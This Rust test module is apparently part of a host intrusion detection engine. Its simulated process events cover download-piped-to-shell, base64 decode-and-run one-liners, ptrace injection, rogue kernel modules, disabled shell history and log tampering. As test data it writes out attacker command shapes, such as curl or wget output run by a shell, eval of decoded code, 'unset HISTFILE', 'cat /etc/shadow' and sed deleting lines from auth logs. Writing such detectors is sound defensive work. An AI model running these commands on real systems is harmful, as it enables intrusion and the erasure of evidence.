            ("sh -c \"$(curl -fsSL h)\"", Some("download")),
            ("bash <(wget -O- h)", Some("download")),
            ("eval `echo aWQ= | base64 --decode`", Some("decode")),
            // Near misses.
            ("curl -s h | shuf", None),
            ("curl -s h | jq . | tee out.json", None),
            ("base64 -d x > y && sha256sum y", None),
            ("echo $(curl -s h/status)", None),
            ("cat install.sh | sh", None),
            ("curl h -o x || sh fallback.sh", None),
        ] {
            assert_eq!(pipes_into_shell(cmd), kind, "{cmd}");
        }
    }

    #[test]
    fn a_redirected_download_or_decode_is_tied_to_its_file() {
        // `curl URL > out; chmod +x out; ./out`: the shell opens `out`
        // before it execs curl.
        let mut w = World::new();
        w.exec(950, 1, "/usr/bin/bash", &["bash"]);
        w.event(951, Payload::Fork { ppid: 950 });
        w.exec(951, 950, "/usr/bin/bash", &["bash"]);
        open_for_write(&mut w, 951, "/srv/app/tmp/out", 5, 4242);
        w.exec_full(951, 950, "/usr/bin/curl", &["curl", "-s", "h"], |x| {
            redirected(x, 5, 4242)
        });
        let ev = w.event(
            950,
            Payload::Chmod(Chmod {
                path: "/srv/app/tmp/out".into(),
                mode: 0o755,
            }),
        );
        let f = w.run(ev);
        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
        // A decoder's output, run by inode after a move.
        open_for_write(&mut w, 960, "/srv/app/p.bin", 5, 5151);
        w.exec_full(960, 950, "/usr/bin/base64", &["base64", "-di"], |x| {
            redirected(x, 5, 5151)
        });
        let ev = w.event(
            950,
            Payload::Rename(crate::model::event::Rename {
                old_path: "/srv/app/p.bin".into(),
                new_path: "/srv/app/worker".into(),
            }),
        );
        w.run(ev);
        let f = w.exec_full(961, 950, "/srv/app/worker", &["worker"], |x| {
            x.exe_dev = 5;
            x.exe_ino = 5151;
        });
        assert!(rules(&f).contains(&ids::DECODED_EXEC), "{f:?}");
        // Near miss: the same shape with `cat` (no network, no decoding).
        open_for_write(&mut w, 970, "/srv/app/copy", 5, 6161);
        w.exec_full(970, 950, "/usr/bin/cat", &["cat", "a"], |x| {
            redirected(x, 5, 6161)
        });
        let f = w.exec_full(971, 950, "/srv/app/copy", &["copy"], |x| {
            x.exe_dev = 5;
            x.exe_ino = 6161;
        });
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn a_downloaded_script_handed_to_an_interpreter_is_ingress() {
        let mut w = World::new();
        w.exec(980, 1, "/usr/bin/bash", &["bash"]);
        w.exec(981, 980, "/usr/bin/wget", &["wget", "-q", "h/s.py"]);
        open_for_write(&mut w, 981, "/opt/svc/s.py", 6, 777);
        let f = w.exec(
            982,
            980,
            "/usr/bin/python3.12",
            &["python3", "-u", "/opt/svc/s.py", "a"],
        );
        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
        assert!(f.iter().any(|f| f.mitre.contains(&"T1059".to_string())));
        // The same file again is reported once.
        let f = w.exec(
            983,
            980,
            "/usr/bin/python3.12",
            &["python3", "/opt/svc/s.py"],
        );
        assert!(f.is_empty(), "{f:?}");
        // sh FILE, by a shell.
        w.exec(
            984,
            980,
            "/usr/bin/curl",
            &["curl", "-o", "/var/tmp/i", "h"],
        );
        open_for_write(&mut w, 984, "/var/tmp/i", 6, 778);
        let f = w.exec(985, 980, "/usr/bin/dash", &["sh", "-e", "/var/tmp/i"]);
        assert!(rules(&f).contains(&ids::INGRESS), "{f:?}");
        // Near misses: a script the user wrote, and `sh -c` naming the file
        // as an argument of a command (not run by the shell).
        w.exec(986, 980, "/usr/bin/vim", &["vim", "/opt/svc/t.py"]);
        open_for_write(&mut w, 986, "/opt/svc/t.py", 6, 779);
        let f = w.exec(987, 980, "/usr/bin/python3", &["python3", "/opt/svc/t.py"]);
        assert!(f.is_empty(), "{f:?}");
        w.exec(
            988,
            980,
            "/usr/bin/curl",
            &["curl", "-o", "/var/tmp/j", "h"],
        );
        open_for_write(&mut w, 988, "/var/tmp/j", 6, 780);
        let f = w.exec(
            989,
            980,
            "/usr/bin/dash",
            &["sh", "-c", "sha256sum /var/tmp/j"],
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn a_download_moved_into_a_system_directory_is_masquerading() {
        let mut w = World::new();
        w.exec(990, 1, "/usr/bin/bash", &["bash"]);
        w.exec(
            991,
            990,
            "/usr/bin/curl",
            &["curl", "-o", "/dev/shm/u", "h"],
        );
        open_for_write(&mut w, 991, "/dev/shm/u", 7, 31);
        let ev = w.event(
            990,
            Payload::Rename(crate::model::event::Rename {
                old_path: "/dev/shm/u".into(),
                new_path: "/usr/local/sbin/netd".into(),
            }),
        );
        w.run(ev);
        let f = w.exec_full(992, 1, "/usr/local/sbin/netd", &["netd"], |x| {
            x.exe_dev = 7;
            x.exe_ino = 31;
        });
        let r = rules(&f);
        assert!(r.contains(&ids::MASQUERADE), "{r:?}");
        // Near miss: a package manager's file in the same place.
        w.exec(993, 1, "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
        open_for_write(&mut w, 993, "/usr/local/sbin/other", 7, 32);
        let f = w.exec_full(994, 1, "/usr/local/sbin/other", &["other"], |x| {
            x.exe_dev = 7;
            x.exe_ino = 32;
        });
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn one_liners_that_decode_and_run_are_flagged_and_plain_ones_are_not() {
        let mut w = World::new();
        w.exec(1000, 1, "/usr/bin/bash", &["bash"]);
        for argv in [
            &[
                "python3",
                "-c",
                "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
            ][..],
            &[
                "perl",
                "-MMIME::Base64",
                "-e",
                "eval(decode_base64('cHJpbnQgMQ=='))",
            ],
            &[
                "node",
                "-e",
                "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())",
            ],
            &["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"],
        ] {
            let exe = format!("/usr/bin/{}", argv[0]);
            let f = w.exec(1001, 1000, &exe, argv);
            assert!(rules(&f).contains(&ids::DECODE_AND_RUN), "{argv:?}: {f:?}");
        }
        for argv in [
            &[
                "python3",
                "-c",
                "import base64;print(base64.b64decode('aGk='))",
            ][..],
            &["python3", "-c", "exec(open('setup.py').read())"],
            &["perl", "-e", "print 1"],
        ] {
            let exe = format!("/usr/bin/{}", argv[0]);
            let f = w.exec(1002, 1000, &exe, argv);
            assert!(!rules(&f).contains(&ids::DECODE_AND_RUN), "{argv:?}: {f:?}");
        }
    }

    #[test]
    fn script_operands_are_found_and_one_liners_are_not_scripts() {
        let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let cases: &[(&str, &[&str], Option<&str>)] = &[
            ("/bin/sh", &["sh", "x.sh"], Some("x.sh")),
            (
                "/bin/bash",
                &["bash", "-x", "-o", "pipefail", "/t/a"],
                Some("/t/a"),
            ),
            ("/bin/bash", &["bash", "-c", "a b"], None),
            ("/bin/bash", &["bash", "-ec", "a"], None),
            ("/bin/bash", &["bash", "-s", "x"], None),
            (
                "/usr/bin/python3",
                &["python3", "-W", "ignore", "m.py"],
                Some("m.py"),
            ),
            ("/usr/bin/python3", &["python3", "-m", "http.server"], None),
            (
                "/usr/bin/node",
                &["node", "-r", "ts-node/register", "a.ts"],
                Some("a.ts"),
            ),
            ("/usr/bin/perl", &["perl", "-e", "1"], None),
            ("/usr/bin/curl", &["curl", "x"], None),
        ];
        for (exe, argv, want) in cases {
            assert_eq!(script_operand(exe, &v(argv)), *want, "{argv:?}");
        }
    }

    fn access(w: &mut World, pid: u32, op: &'static str, target: u32, ret: i64) -> Vec<Finding> {
        let ev = w.event(
            pid,
            Payload::ProcessAccess(crate::model::event::ProcessAccess {
                op,
                target,
                target_pid: Some(target),
                ret,
                addr: 0x7ffd_0000_0000,
            }),
        );
        w.run(ev)
    }

    #[test]
    fn ptrace_and_vm_writes_into_a_process_not_started_by_the_writer() {
        let mut w = World::new();
        w.exec(1400, 1, "/opt/shop/bin/api", &["api"]);
        w.exec(1500, 1, "/usr/bin/python3.12", &["python3", "x.py"]);
        for op in ["poke_text", "set_regs", "vm_writev"] {
            let f = access(&mut w, 1500, op, 1400, 0);
            assert_eq!(rules(&f), [ids::INJECTION], "{op}: {f:?}");
            assert_eq!(f[0].severity, Severity::Critical);
            assert!(f[0].summary.contains("/opt/shop/bin/api"), "{f:?}");
        }
        let f = access(&mut w, 1500, "seize", 1400, 0);
        assert_eq!(rules(&f), [ids::PTRACE_ATTACH], "{f:?}");
        assert!(f[0].mitre.contains(&"T1055.008".to_string()));
        // Near misses: refused, a system debugger, a tracer of its own
        // child (strace, a ptrace sandbox), itself.
        assert!(access(&mut w, 1500, "attach", 1400, -1).is_empty());
        w.exec(1501, 1, "/usr/bin/gdb", &["gdb", "-p", "1400"]);
        assert!(access(&mut w, 1501, "attach", 1400, 0).is_empty());
        assert!(access(&mut w, 1501, "poke_text", 1400, 0).is_empty());
        w.exec(1502, 1, "/home/dev/bin/sandbox", &["sandbox", "--", "make"]);
        w.exec(1503, 1502, "/usr/bin/make", &["make"]);
        w.exec(1504, 1503, "/usr/bin/cc", &["cc"]);
        assert!(access(&mut w, 1502, "seize", 1504, 0).is_empty());
        assert!(access(&mut w, 1502, "set_regset", 1504, 0).is_empty());
        // A debugger's name elsewhere is not a debugger.
        w.exec(1505, 1, "/var/tmp/gdb", &["gdb"]);
        let f = access(&mut w, 1505, "poke_data", 1400, 0);
        assert_eq!(rules(&f), [ids::INJECTION], "{f:?}");
    }

    fn module(w: &mut World, pid: u32, path: &str, ret: i32) -> Vec<Finding> {
        let ev = w.event(
            pid,
            Payload::ModuleLoad(crate::model::event::ModuleLoad {
                path: path.into(),
                from_memory: path.is_empty(),
                flags: 0,
                ret,
            }),
        );
        w.run(ev)
    }

    #[test]
    fn kernel_modules_from_outside_the_module_trees() {
        let mut w = World::new();
        w.exec(1600, 1, "/usr/sbin/insmod", &["insmod", "/srv/drv/net.ko"]);
        let f = module(&mut w, 1600, "/srv/drv/net.ko", 0);
        assert_eq!(rules(&f), [ids::MODULE_LOAD], "{f:?}");
        assert_eq!(f[0].severity, Severity::High);
        // From memory: the system loader told to load a file elsewhere
        // (kmod decompresses .ko.xz itself), or any other program.
        w.exec(1601, 1, "/usr/bin/kmod", &["insmod", "/home/u/m.ko.xz"]);
        assert_eq!(rules(&module(&mut w, 1601, "", 0)), [ids::MODULE_LOAD]);
        w.exec(1602, 1, "/srv/app/loader", &["loader"]);
        let f = module(&mut w, 1602, "", -1);
        assert_eq!(rules(&f), [ids::MODULE_LOAD], "{f:?}");
        assert!(f[0].summary.contains("refused"), "{f:?}");
        // A module file fetched over the network: critical.
        w.exec(
            1603,
            1,
            "/usr/bin/wget",
            &["wget", "http://203.0.113.5/m.ko"],
        );
        open_with(&mut w, 1603, "/var/lib/m.ko", (8, 77), 0o1101);
        w.exec(1604, 1, "/usr/sbin/insmod", &["insmod", "/var/lib/m.ko"]);
        let f = module(&mut w, 1604, "/var/lib/m.ko", 0);
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        assert!(f[0].summary.contains("wget"), "{f:?}");
        // Near misses: modprobe by name and udev loading from the trees.
        w.exec(1605, 1, "/usr/bin/kmod", &["modprobe", "nf_tables"]);
        assert!(module(&mut w, 1605, "", 0).is_empty());
        w.exec(
            1606,
            1,
            "/usr/lib/systemd/systemd-udevd",
            &["systemd-udevd"],
        );
        let f = module(
            &mut w,
            1606,
            "/usr/lib/modules/6.1.0-27-amd64/kernel/drivers/net/veth.ko",
            0,
        );
        assert!(f.is_empty(), "{f:?}");
        w.exec(
            1607,
            1,
            "/usr/bin/kmod",
            &["insmod", "/lib/modules/6.1/extra/x.ko"],
        );
        assert!(module(&mut w, 1607, "", 0).is_empty());
    }

    fn bpf(w: &mut World, pid: u32, prog_type: &str) -> Vec<Finding> {
        let ev = w.event(
            pid,
            Payload::BpfLoad(crate::model::event::BpfLoad {
                prog_type: prog_type.into(),
                attach_type: 0,
                name: "p".into(),
                insn_cnt: 10,
                ret: 4,
            }),
        );
        w.run(ev)
    }

    #[test]
    fn bpf_programs_that_hook_the_kernel_loaded_by_programs_not_the_systems() {
        let mut w = World::new();
        w.exec(1700, 1, "/home/ops/bin/probe", &["probe"]);
        let f = bpf(&mut w, 1700, "kprobe");
        assert_eq!(rules(&f), [ids::BPF_LOAD], "{f:?}");
        assert_eq!(f[0].severity, Severity::High);
        w.exec(1701, 1, "/dev/shm/k", &["k"]);
        let f = bpf(&mut w, 1701, "tracing");
        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
        // Near misses: the system's tools, and network or cgroup filters.
        w.exec(1702, 1, "/usr/bin/bpftrace", &["bpftrace", "-e", "..."]);
        assert!(bpf(&mut w, 1702, "kprobe").is_empty());
        assert!(bpf(&mut w, 1700, "socket_filter").is_empty());
        assert!(bpf(&mut w, 1700, "cgroup_skb").is_empty());
    }

    fn exec_mem(w: &mut World, pid: u32, ret: i32) -> Vec<Finding> {
        let ev = w.event(
            pid,
            Payload::ExecMem(crate::model::event::ExecMem {
                op: "mmap",
                prot: 7,
                map_flags: 0x22,
                addr: 0x7f00_0000_0000,
                len: 4096,
                ret,
            }),
        );
        w.run(ev)
    }

    #[test]
    fn executable_anonymous_memory_where_no_jit_explains_it() {
        let mut w = World::new();
        w.exec(1800, 1, "/usr/bin/python3.11", &["python3", "-c", "..."]);
        assert_eq!(rules(&exec_mem(&mut w, 1800, 0)), [ids::EXEC_MEMORY]);
        w.exec(1801, 1, "/usr/bin/bash", &["bash"]);
        assert_eq!(rules(&exec_mem(&mut w, 1801, 0)), [ids::EXEC_MEMORY]);
        w.exec(1802, 1, "/srv/app/.cache/worker", &["worker"]);
        let f = exec_mem(&mut w, 1802, 0);
        assert_eq!(rules(&f), [ids::EXEC_MEMORY], "{f:?}");
        assert!(f[0].summary.contains("hidden"), "{f:?}");
        // Near misses: runtimes that compile (node, java, ruby with its
        // JIT on), an ordinary program, a refused call.
        for (pid, exe, argv) in [
            (1803, "/usr/bin/node", vec!["node", "server.js"]),
            (
                1804,
                "/usr/lib/jvm/java-17/bin/java",
                vec!["java", "-jar", "a.jar"],
            ),
            (1805, "/usr/bin/ruby3.2", vec!["ruby", "--yjit", "app.rb"]),
            (1806, "/opt/app/bin/server", vec!["server"]),
        ] {
            w.exec(pid, 1, exe, &argv);
            assert!(exec_mem(&mut w, pid, 0).is_empty(), "{exe}");
        }
        assert!(exec_mem(&mut w, 1800, -13).is_empty());
    }

    #[test]
    fn a_copied_shell_is_a_shell_whatever_its_name() {
        let mut w = World::new();
        w.exec(1900, 1, "/usr/bin/python3", &["gunicorn", "app:app"]);
        w.listen(1900);
        let f = w.exec_full(
            1901,
            1900,
            "/srv/shop/.cache/kthelper",
            &["kthelper"],
            |x| x.copy_of = Some("/usr/bin/dash".into()),
        );
        let r = rules(&f);
        assert!(r.contains(&ids::SERVER_CHILD), "{f:?}");
        let m = f
            .iter()
            .find(|f| f.rule == ids::MASQUERADE)
            .expect("masquerading");
        assert_eq!(m.mitre, ["T1036.003"]);
        // A copy reading a downloader's pipe is a shell reading it.
        w.exec_full(
            1902,
            1,
            "/usr/bin/curl",
            &["curl", "-s", "http://x/i"],
            |x| piped(x, 1, 4242),
        );
        let f = w.exec_full(1903, 1, "/home/u/bin/x", &["x"], |x| {
            piped(x, 0, 4242);
            x.copy_of = Some("/usr/bin/bash".into())
        });
        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
        // Near misses: a copy under its own name (an unpacked toolchain's
        // bash) is no rename; a program that is no copy is judged by name.
        let f = w.exec_full(
            1904,
            1,
            "/opt/tools/bin/bash",
            &["bash", "-c", "make"],
            |x| x.copy_of = Some("/usr/bin/bash".into()),
        );
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec(1905, 1900, "/srv/shop/bin/worker", &["worker"]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn shell_history_switched_off_once_per_session() {
        let mut w = World::new();
        w.exec(2000, 1, "/usr/sbin/sshd", &["sshd"]);
        w.exec(2001, 2000, "/usr/bin/bash", &["-bash"]);
        // Statements read by structure, quoted or not.
        for (pid, cmd) in [
            (2002, "unset HISTFILE; curl -s x"),
            (2003, "export HISTFILE=/dev/null && id"),
            (2004, "HISTSIZE=0; uname -a"),
            (2005, "set +o history; cat /etc/shadow"),
            (2006, "id; history -c"),
        ] {
            let f = w.exec(pid, 2001, "/usr/bin/bash", &["bash", "-c", cmd]);
            assert_eq!(rules(&f), [ids::HISTORY_OFF], "{cmd}: {f:?}");
            assert!(f[0].mitre.contains(&"T1562.003".to_string()));
        }
        // The environment: reported at the first process, not its siblings
        // nor its descendants.
        let f = w.exec_full(2010, 2001, "/usr/bin/ls", &["ls"], |x| x.history_off = true);
        assert_eq!(rules(&f), [ids::HISTORY_OFF], "{f:?}");
        let f = w.exec_full(2011, 2001, "/usr/bin/cat", &["cat", "x"], |x| {
            x.history_off = true
        });
        assert!(f.is_empty(), "{f:?}");
        // Near misses: a variable that is only a command's environment, a
        // history file elsewhere, the words inside an argument, a
        // non-shell's arguments.
        for cmd in [
            "HISTFILE=/dev/null printenv HISTFILE",
            "export HISTFILE=$HOME/.hist_app",
            "echo 'unset HISTFILE'",
            "grep -r HISTSIZE=0 /etc",
        ] {
            let f = w.exec(2020, 2000, "/usr/bin/bash", &["bash", "-c", cmd]);
            assert!(f.is_empty(), "{cmd}: {f:?}");
        }
        let f = w.exec(
            2021,
            2000,
            "/usr/bin/python3",
            &["python3", "-c", "unset HISTFILE"],
        );
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn logs_deleted_or_rewritten_by_non_keepers_are_indicator_removal() {
        let mut w = World::new();
        w.exec(2100, 1, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]);
        let unlink = |w: &mut World, pid: u32, path: &str| {
            let ev = w.event(
                pid,
                Payload::Unlink(crate::model::event::Unlink { path: path.into() }),
            );
            w.run(ev)
        };
        let f = unlink(&mut w, 2100, "/var/log/auth.log");
        assert_eq!(rules(&f), [ids::LOG_TAMPERING], "{f:?}");
        assert!(f[0].mitre.contains(&"T1070.002".to_string()));
        let f = unlink(&mut w, 2100, "/home/ops/.zsh_history");
        assert!(f[0].mitre.contains(&"T1070.003".to_string()), "{f:?}");
        // sed -i writes a copy and renames it over the log.
        w.exec(
            2101,
            1,
            "/usr/bin/sed",
            &["sed", "-i", "/10.0.0.9/d", "/var/log/secure"],
        );
        let ev = w.event(
            2101,
            Payload::Rename(crate::model::event::Rename {
                old_path: "/var/log/sedX1b2c3".into(),
                new_path: "/var/log/secure".into(),
            }),
        );
        let f = w.run(ev);
        assert_eq!(rules(&f), [ids::LOG_TAMPERING], "{f:?}");
        assert!(f[0].summary.contains("rewrote"), "{f:?}");
        // Near misses: the rotator's own deletes, a file that only has a
        // history-like word, a cache file.
        w.exec(
            2102,
            1,
            "/usr/sbin/logrotate",
            &["logrotate", "/etc/logrotate.conf"],
        );
        assert!(unlink(&mut w, 2102, "/var/log/syslog.7.gz").is_empty());
        assert!(unlink(&mut w, 2100, "/srv/app/history/export.csv").is_empty());
        assert!(unlink(&mut w, 2100, "/srv/app/cache/hist.bin").is_empty());
    }
}
